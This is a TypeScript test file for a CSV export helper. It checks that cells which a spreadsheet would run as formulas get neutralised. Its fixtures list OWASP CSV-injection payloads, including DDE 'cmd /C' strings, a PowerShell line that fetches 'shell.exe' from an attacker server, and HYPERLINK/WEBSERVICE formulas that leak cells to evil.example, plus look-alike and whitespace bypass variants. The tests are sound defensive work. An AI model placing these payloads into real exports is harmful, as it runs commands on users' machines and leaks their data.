import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '@/lib/ui/shared/csv';

describe('csv', () => {
  it('neutralises cells that a spreadsheet would run as formulas', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(csvCell(`${start}HYPERLINK("x")`).replace(/^"/, '').startsWith(`'${start}`)).toBe(true);
    }
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
  });

  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvCell('bot, crawler')).toBe('"bot, crawler"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell('\rX')).toBe(`"'\rX"`);
  });

  it('writes empty cells for null and undefined, and plain numbers and booleans', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(13.5)).toBe('13.5');
    expect(csvCell(false)).toBe('false');
    expect(csvCell('1.2.3.4')).toBe('1.2.3.4');
  });

  it('joins rows with CRLF and ends with one', () => {
    expect(toCsv(['a', 'b'], [[1, '=x'], [null, 'y,z']])).toBe(`a,b\r\n1,'=x\r\n,"y,z"\r\n`);
  });
});

/**
 * The OWASP CSV-injection payloads (owasp.org/www-community/attacks/CSV_Injection and its
 * cheat sheet), plus the ones the issue found still open: a formula behind whitespace or a
 * line break, and full-width or look-alike trigger characters.
 */
const OWASP_PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `=cmd|' /C notepad'!'A1'`,
  `=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0`,
  `+cmd|' /C calc'!A0`,
  `-cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example?leak="&A1&A2, "Error: please click for details")`,
  `=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a")`,
  `=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x", "sheet1!A2:E2")`,
  `=IMAGE("https://evil.example/tracker.png")`,
  `=WEBSERVICE("http://evil.example/?"&A1)`,
  `=DDE("cmd";"/C calc";"!A0")A0`,
  `=1+1`,
  `+1+1`,
  `@1+1`,
  `-1+1`,
  `=10+20+cmd|' /C calc'!A0`,
  `=rundll32|'URL.dll,OpenURL calc.exe'!A`,
  `\t=1+1`,
  `\r=1+1`,
  `=SUM(A1:A2)`,
];
const LEADERS = ['', ' ', '  ', '\n', '\r\n', '\t', ' \t ', '\u00a0', '\u3000', '\u200b', '\ufeff', '\u2028'];
const LOOK_ALIKES: Record<string, string[]> = {
  '=': ['＝', '﹦'],
  '+': ['＋', '﹢'],
  '-': ['－', '﹣', '−', '‐', '–', '—'],
  '@': ['＠', '﹫'],
};

/** The cell's text as a spreadsheet reads it (RFC 4180 quoting undone). */
const unquote = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell);

describe('csv against the OWASP CSV-injection payloads', () => {
  it('neutralises every payload, behind any leading whitespace, with any look-alike trigger', () => {
    let checked = 0;
    for (const payload of OWASP_PAYLOADS) {
      const first = payload[0]!;
      const variants = [payload, ...(LOOK_ALIKES[first] ?? []).map((alike) => alike + payload.slice(1))];
      for (const variant of variants) {
        for (const leader of LEADERS) {
          const value = leader + variant;
          const text = unquote(csvCell(value));
          expect(text, JSON.stringify(value)).toBe(`'${value}`);
          checked++;
        }
      }
    }
    expect(checked).toBeGreaterThan(300);
  });

  it('leaves ordinary values alone: IPs, words, numbers, a dash inside a value', () => {
    for (const value of ['1.2.3.4', '2001:db8::1', 'malicious', 'AS64500 - Example', 'e-mail', ' 42', '']) {
      expect(unquote(csvCell(value))).toBe(value);
    }
    expect(csvCell(-3)).toBe('-3');
  });
});
